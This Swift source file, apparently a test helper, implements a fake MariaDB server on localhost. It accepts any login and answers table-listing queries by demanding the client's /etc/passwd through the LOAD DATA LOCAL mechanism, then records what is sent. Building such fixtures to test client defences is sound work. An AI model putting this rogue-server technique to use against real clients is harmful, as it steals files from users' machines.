import Foundation

#if canImport(Glibc)
  import Glibc
#elseif canImport(Darwin)
  import Darwin
#endif

/// A server that speaks as one of MariaDB does, lets everybody in, and answers the question for its
/// tables by asking for a file of the client's machine, as `LOAD DATA LOCAL` does
/// (https://mariadb.com/docs/server/reference/clientserver-protocol). It serves one connection.
public final class FileAskingServer: @unchecked Sendable {
  public let port: Int
  private let listener: Int32
  private let end = DispatchSemaphore(value: 0)
  private var content: [UInt8]?

  /// - Parameter isSilent: Whether it never says a word.
  public init(isSilent: Bool = false) {
    listener = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_addr.s_addr = inet_addr("127.0.0.1")
    var length = socklen_t(MemoryLayout<sockaddr_in>.size)
    let listener = listener
    withUnsafeMutablePointer(to: &address) { pointer in
      pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        precondition(bind(listener, $0, length) == 0 && listen(listener, 1) == 0)
        precondition(getsockname(listener, $0, &length) == 0)
      }
    }
    port = Int(UInt16(bigEndian: address.sin_port))
    if !isSilent { Thread.detachNewThread { @Sendable in self.serve() } }
  }

  deinit { close(listener) }

  /// What the client sent of the file, once the connection has ended; nil where it was never asked.
  public func sent() -> [UInt8]? {
    end.wait()
    return content
  }

  private func serve() {
    let client = accept(listener, nil, nil)
    defer {
      close(client)
      end.signal()
    }
    send(Self.greeting, number: 0, to: client)
    guard receive(from: client) != nil else { return }
    send(Self.agreement, number: 2, to: client)
    while let command = receive(from: client), command.first == 3 {
      guard String(decoding: command, as: UTF8.self).contains("information_schema.tables") else {
        send(Self.agreement, number: 1, to: client)
        continue
      }
      send([0xFB] + Array("/etc/passwd".utf8), number: 1, to: client)
      content = receive(from: client)
      send(Self.agreement, number: 3, to: client)
    }
  }

  /// The protocol's version, the server's, the session's number, a salt in two parts, and what it can.
  private static let greeting: [UInt8] =
    [10] + Array("10.11.0-MariaDB\0".utf8) + [1, 0, 0, 0] + Array("12345678\0".utf8)
    + [0x89, 0xA2, 45, 2, 0, 0x08, 0, 21] + Array(repeating: 0, count: 10)
    + Array("123456789012\0mysql_native_password\0".utf8)
  private static let agreement: [UInt8] = [0, 0, 0, 2, 0, 0, 0]

  private func send(_ packet: [UInt8], number: UInt8, to client: Int32) {
    let bytes = [UInt8(packet.count), 0, 0, number] + packet
    precondition(write(client, bytes, bytes.count) == bytes.count)
  }

  /// Nil at the end of the connection.
  private func receive(from client: Int32) -> [UInt8]? {
    guard let head = take(4, from: client) else { return nil }
    return take(Int(head[0]) | Int(head[1]) << 8 | Int(head[2]) << 16, from: client)
  }

  private func take(_ count: Int, from client: Int32) -> [UInt8]? {
    var bytes = [UInt8](repeating: 0, count: count)
    var taken = 0
    while taken < count {
      let more = bytes.withUnsafeMutableBytes {
        read(client, $0.baseAddress! + taken, count - taken)
      }
      guard more > 0 else { return nil }
      taken += more
    }
    return bytes
  }
}
